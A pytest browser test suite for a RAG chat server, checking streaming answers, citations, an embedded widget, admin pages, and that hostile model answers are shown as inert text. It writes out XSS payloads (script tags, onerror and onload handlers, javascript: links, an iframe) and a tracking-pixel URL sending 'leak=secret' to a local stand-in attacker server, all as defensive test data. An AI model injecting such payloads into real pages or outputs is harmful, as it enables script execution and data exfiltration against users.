"""The pages in real headless Chromium (Debian's, driven by Playwright; no browser download): a streamed answer
with a citation on the chat page, the widget on a plain page from another local port, and hostile answers —
raw HTML, <script>, javascript: links, external Markdown images — that must neither run nor load anything.
All traffic stays on 127.0.0.1: any other request is aborted by the test and fails it."""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import threading
from pathlib import Path

import pytest

pytest.importorskip("fastapi")
playwright_api = pytest.importorskip("playwright.sync_api")

from serverkit import BATTERY_Q, KB, LiveServer, PacedGenerator, index, make_settings  # noqa: E402
from ragtune.models.embedders import HashEmbedder  # noqa: E402
from ragtune.server.app import create_app  # noqa: E402
from ragtune.server.auth import create_key  # noqa: E402
from ragtune.store.sqlite import SQLiteStore  # noqa: E402

CHROMIUM = os.environ.get("RAGTUNE_CHROMIUM", "/usr/bin/chromium")
ADMIN = "browser-admin-" + "z" * 32
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists() and not shutil.which("chromium"),
                                reason="Debian's chromium is not installed (make install installs it)")


class Recording(http.server.ThreadingHTTPServer):
    """A loopback HTTP server that records every path asked of it (the 'external host' of the probes, and the
    third-party site hosting the widget)."""

    def __init__(self, pages: dict[str, str] | None = None) -> None:
        self.pages, self.hits = pages or {}, []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                outer.hits.append(self.path)
                body = outer.pages.get(self.path.split("?")[0], "").encode()
                self.send_response(200 if body else 404)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.shutdown()
        self.server_close()


@pytest.fixture(scope="module")
def evil():
    server = Recording()
    yield server
    server.close()


def probe_markdown(evil_url: str) -> str:
    return ("Here is the answer <img src=x onerror=\"window.__xss='img';alert(1)\"> and "
            "<script>window.__xss='script';alert(2)</script> done.\n\n"
            f"- [click me](javascript:window.__xss='link';alert(3))\n"
            f"- ![tracking pixel]({evil_url}/pixel.png?leak=secret)\n"
            f"- <a href=\"javascript:alert(4)\">raw link</a> <iframe src=\"{evil_url}/frame\"></iframe>\n"
            f"- <svg onload=\"window.__xss='svg'\"></svg> **bold** and [the docs](https://docs.example.com/guide)\n")


@pytest.fixture(scope="module")
def site(tmp_path_factory, evil):
    """A ragtune server (admin key set) with bot `demo` (help centre + a document carrying raw HTML) and bot
    `probe` (strategy base: the scripted hostile answer reaches the page verbatim)."""
    root = tmp_path_factory.mktemp("browser")
    promo = root / "promo"
    promo.mkdir()
    (promo / "promo.md").write_text(
        "# Spring promotion\n\nThe spring promotion code BLOOM25 <img src=x onerror=\"window.__xss='doc'\"> "
        "<script>window.__xss='docscript'</script> gives 25% off all helmets.\n")
    home = root / "home"
    # auto mode: the (paced) model writes each answer, so streams are visibly streams
    settings = make_settings(home, admin_key=ADMIN, rate_limit=0, answer_mode="auto")
    index(settings, {"demo": [KB, promo], "probe": [KB]}, {"probe": {"strategy": "base"}})
    store = SQLiteStore(home / "ragtune.db")
    key, _ = create_key(store, store.get_bot("demo"), "key")
    probe_key, _ = create_key(store, store.get_bot("probe"), "key")
    widget, _ = create_key(store, store.get_bot("demo"), "widget")
    store.close()
    generator = PacedGenerator(delay=0.03, probe="xss-probe", probe_text=probe_markdown(evil.url))
    app = create_app(settings, generator=generator, embedder=HashEmbedder())
    with LiveServer(app) as url:
        yield {"url": url, "key": key, "probe_key": probe_key, "widget": widget}


@pytest.fixture(scope="module")
def browser_context(tmp_path_factory):
    with playwright_api.sync_playwright() as p:
        ctx = p.chromium.launch_persistent_context(
            str(tmp_path_factory.mktemp("chromium-profile")), executable_path=CHROMIUM, headless=True,
            args=["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--disable-quic", "--disable-extensions",
                  "--disable-default-apps", "--no-default-browser-check"])
        ctx.set_default_timeout(15_000)
        yield ctx
        ctx.close()


@pytest.fixture
def page(browser_context):
    """A fresh page that records every request, dialog and page error; anything not on 127.0.0.1 is aborted."""
    pg = browser_context.new_page()
    pg.requests, pg.dialogs, pg.errors, pg.escaped = [], [], [], []

    def guard(route):
        url = route.request.url
        if url.startswith(("http://127.0.0.1:", "data:", "about:")):
            return route.continue_()
        pg.escaped.append(url)
        return route.abort()

    pg.route("**/*", guard)
    pg.on("request", lambda r: pg.requests.append(r.url))
    pg.on("dialog", lambda d: (pg.dialogs.append(d.message), d.dismiss()))
    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
    yield pg
    pg.close()
    assert not pg.escaped, f"requests left the machine: {pg.escaped}"


def ask(page_or_frame, question: str):
    page_or_frame.locator("#question").fill(question)
    page_or_frame.locator("#question").press("Enter")
    answer = page_or_frame.locator(".msg.bot").last
    answer.and_(page_or_frame.locator(".msg.bot[data-done]")).wait_for()
    return answer


def test_chat_page_streams_an_answer_with_a_citation_and_takes_feedback(page, site):
    page.goto(f"{site['url']}/chat?bot=demo#key={site['key']}")
    page.locator("#question").fill(BATTERY_Q)
    page.locator("#question").press("Enter")
    answer = page.locator(".msg.bot").last
    # while streaming: the first sentence is on screen before the answer is complete
    page.locator(".msg.bot.streaming[data-pieces]").wait_for()
    partial = answer.locator(".body").inner_text()
    page.locator(".msg.bot[data-done]").wait_for()
    final = answer.locator(".body").inner_text()
    assert "4.5 hours" in final and len(partial) < len(final)
    assert int(answer.get_attribute("data-pieces")) >= 2
    cite = answer.locator("ol.cites button.cite").first
    assert "Battery" in cite.inner_text()
    cite.click()
    page.locator("#passage:not([hidden])").wait_for()
    assert "4.5 hours" in page.locator("#passage-text").inner_text()
    assert page.locator("#passage-source").inner_text().endswith("battery-care.md")
    answer.locator("button.thumb.up").click()
    answer.locator(".feedback[data-rating='up']").wait_for()
    assert "#key=" not in page.url  # the key left the address bar
    assert not page.errors and not page.dialogs


def test_chat_page_hand_off_lists_pages_that_may_help(page, site):
    """Too little support to answer: the hand-off text, no citations, and the page searched offered as a button
    that opens its passage."""
    page.goto(f"{site['url']}/chat?bot=demo#key={site['key']}")
    answer = ask(page, "Does the battery work in space?")
    assert "abstained" in answer.get_attribute("class") and answer.locator("ol.cites").count() == 0
    first = answer.locator(".suggestions button.cite").first
    assert "Pages that may help" in answer.locator(".suggestions").inner_text()
    first.click()
    page.locator("#passage:not([hidden])").wait_for()
    assert page.locator("#passage-source").inner_text().endswith("battery-care.md")
    assert not page.errors and not page.dialogs


def test_chat_page_asks_for_a_key_when_it_has_none(page, site):
    page.goto(f"{site['url']}/chat?bot=demo")
    page.evaluate("sessionStorage.clear()")
    page.reload()
    page.locator("#question").fill(BATTERY_Q)
    page.locator("#question").press("Enter")
    page.locator("#keybox:not([hidden])").wait_for()
    page.locator("#key-input").fill(site["key"])
    page.locator("#key-form button").click()
    ask(page, BATTERY_Q)
    assert "4.5 hours" in page.locator(".msg.bot").last.inner_text()


def test_widget_on_a_plain_page_from_another_port(page, site):
    host = Recording({"/": (
        "<!doctype html><html><head><title>Shop</title></head><body><h1>Our shop</h1>"
        f"<script src=\"{site['url']}/widget.js\" data-bot=\"demo\" data-token=\"{site['widget']}\"></script>"
        "</body></html>")})
    try:
        page.goto(host.url + "/")
        page.locator("#ragtune-widget-button").click()
        frame = page.frame_locator("#ragtune-widget-frame")
        answer = ask(frame, BATTERY_Q)
        assert "4.5 hours" in answer.inner_text()
        assert answer.locator("ol.cites button.cite").count() >= 1
        assert answer.locator(".feedback").count() == 0  # a widget token chats, nothing else
        # the host page cannot reach into the frame (another origin), and the token is not in the frame's URL
        assert page.evaluate("document.getElementById('ragtune-widget-frame').contentDocument") is None
        frame_url = page.frames[1].url
        assert frame_url.startswith(site["url"] + "/widget/frame") and site["widget"] not in frame_url
        assert host.hits == ["/"]
        assert not page.errors
    finally:
        host.close()


def test_hostile_answer_runs_no_script_and_loads_nothing(page, site, evil):
    evil.hits.clear()
    page.goto(f"{site['url']}/chat?bot=probe#key={site['probe_key']}")
    answer = ask(page, "xss-probe: show me everything")
    body = answer.locator(".body")
    text = body.inner_text()
    assert "<script>" in text and "<img src=x onerror" in text  # shown as text, not markup
    assert body.locator("img, script, iframe, svg, object, embed").count() == 0
    assert "[image: tracking pixel]" in text
    assert body.locator("a[href^='javascript']").count() == 0 and "click me" in text
    assert body.locator("strong").inner_text() == "bold"
    docs = body.locator("a", has_text="the docs")
    assert docs.get_attribute("href") == "https://docs.example.com/guide"
    assert "noopener" in docs.get_attribute("rel") and docs.get_attribute("target") == "_blank"
    body.get_by_text("click me").click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__xss") is None
    assert not page.dialogs and not page.errors
    assert not [u for u in page.requests if u.startswith(evil.url)] and evil.hits == []


def test_hostile_document_through_rag_is_shown_as_text(page, site):
    page.goto(f"{site['url']}/chat?bot=demo#key={site['key']}")
    answer = ask(page, "What does the spring promotion code BLOOM25 give?")
    assert "BLOOM25" in answer.inner_text()
    assert answer.locator(".body img, .body script").count() == 0
    answer.locator("ol.cites button.cite").first.click()
    page.locator("#passage:not([hidden])").wait_for()
    assert "<script>" in page.locator("#passage-text").inner_text()
    assert page.evaluate("window.__xss") is None and not page.dialogs


def test_admin_page_lists_sources_and_conversations(page, site):
    page.goto(f"{site['url']}/admin?bot=demo#key={ADMIN}")
    page.locator("#sources tbody tr").first.wait_for()
    assert "helpcenter" in page.locator("#sources tbody").inner_text()
    page.locator("#conversations tbody tr").first.wait_for()
    page.locator("#conversations tbody tr").first.click()
    page.locator("#conversation .msg").first.wait_for()
    page.locator("#sync-all").click()
    page.locator("#jobs li[data-state='done']").first.wait_for()
    assert not page.errors


def test_admin_page_edits_the_hand_off_bar(page, site):
    import json
    import urllib.request

    def stored():
        req = urllib.request.Request(f"{site['url']}/api/bots/demo/settings", headers={"Authorization": f"Bearer {ADMIN}"})
        with urllib.request.urlopen(req, timeout=10) as r:
            return json.load(r)["min_support"]

    page.goto(f"{site['url']}/admin?bot=demo#key={ADMIN}")
    page.locator("#sources tbody tr").first.wait_for()
    field = page.locator("#set-min-support")
    assert field.input_value() == "" and stored() is None  # the server's setting
    field.fill("0.6")  # the default's value: the other tests' answers do not change
    page.locator("#settings button[type=submit]").click()
    page.get_by_text("settings saved").wait_for()
    assert stored() == 0.6
    page.reload()
    playwright_api.expect(page.locator("#set-min-support")).to_have_value("0.6")  # loaded from the server
    assert not page.errors


def test_api_docs_render_offline(page, site):
    """Swagger UI loads its script and styles from this server (the page fixture aborts anything else)."""
    page.goto(f"{site['url']}/docs")
    page.locator(".swagger-ui .info .title").wait_for()
    assert "ragtune" in page.locator(".swagger-ui .info .title").inner_text()
    page.locator(".opblock").first.wait_for()
    assert page.locator(".opblock").count() > 10
    assert any("/docs-assets/swagger-ui-bundle.js" in u for u in page.requests)
    assert not page.errors


def test_free_port_helper_is_loopback():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        assert s.getsockname()[0] == "127.0.0.1"
